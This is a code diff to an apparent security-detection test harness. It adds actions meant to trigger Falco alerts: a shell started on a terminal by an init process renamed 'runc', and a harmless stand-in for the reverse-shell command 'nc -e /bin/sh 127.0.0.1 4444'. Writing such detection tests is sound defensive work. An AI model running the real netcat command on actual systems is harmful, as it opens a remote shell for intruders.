@@ -100,13 +100,13 @@ def _standin(ctx: RunContext, name: str, *args: str) -> Outcome:
     return out
 
 
-def interactive_shell(ctx: RunContext) -> Outcome:
-    """``sh`` with a pseudo-terminal as its controlling terminal, in a container."""
-    out = Outcome(token())
+def _on_terminal(ctx: RunContext, out: Outcome, inner: list[str]) -> Outcome:
+    """Run ``inner`` in a fresh container context with a pseudo-terminal as its
+    controlling terminal; it must print the marker on the terminal."""
     master, slave = os.openpty()
     try:
         with container(out) as prefix:
-            argv = [*prefix, "tty", tool("sh"), "-c", f"echo {out.marker}"]
+            argv = [*prefix, "tty", *inner]
             proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave)
             out.add("pids", proc.pid)
             os.close(slave)
@@ -138,6 +138,40 @@ def interactive_shell(ctx: RunContext) -> Outcome:
         if slave >= 0:
             os.close(slave)
     return out
+
+
+def interactive_shell(ctx: RunContext) -> Outcome:
+    """``sh`` with a pseudo-terminal as its controlling terminal, in a container."""
+    out = Outcome(token())
+    return _on_terminal(ctx, out, [tool("sh"), "-c", f"echo {out.marker}"])
+
+
+# The container's init, named `runc` as a runtime's is: forks the shell (which keeps the
+# terminal) and waits for it, so the shell's parent is `runc` (Falco's container_entrypoint).
+RUNC_INIT = """import os, sys
+sh, marker = sys.argv[1:3]
+pid = os.fork()
+if pid == 0:
+    os.execv(sh, ["sh", "-c", "echo " + marker])
+_, status = os.waitpid(pid, 0)
+sys.exit(os.waitstatus_to_exitcode(status))
+"""
+
+
+def terminal_shell_entrypoint(ctx: RunContext) -> Outcome:
+    """``sh`` on a terminal started by the container's init (named ``runc``), as
+    ``kubectl exec -it``/``docker exec -it`` does: the training lab's first alert."""
+    out = Outcome(token())
+    with workdir(out) as d:
+        runc = named(d, "runc", python())
+        _on_terminal(ctx, out, [str(runc), "-c", RUNC_INIT, tool("sh"), out.marker])
+    return out
+
+
+def netcat_remote_code_execution(ctx: RunContext) -> Outcome:
+    """Stand-in ``nc -e /bin/sh 127.0.0.1 4444`` in a container (``true`` under nc's
+    name: nothing connects, nothing listens): the training lab's second alert."""
+    return _standin(ctx, "nc", "-e", "/bin/sh", "127.0.0.1", "4444")
 
 
 def noninteractive_shell(ctx: RunContext) -> Outcome:
@@ -260,6 +294,22 @@ EXEC = ("execve",)
 
 ACTIONS: list[Action] = [
     _a("container_interactive_shell", "Interactive shell in container", interactive_shell, EXEC),
+    action(
+        "container_terminal_shell",
+        "Terminal shell in container",
+        terminal_shell_entrypoint,
+        root=True,
+        needs=EXEC,
+        ruleset="falco",
+    ),
+    action(
+        "container_netcat_rce",
+        "Netcat Remote Code Execution in Container",
+        netcat_remote_code_execution,
+        root=True,
+        needs=EXEC,
+        ruleset="falco",
+    ),
     _a(
         "container_noninteractive_shell",
         "Non-interactive shell in container",
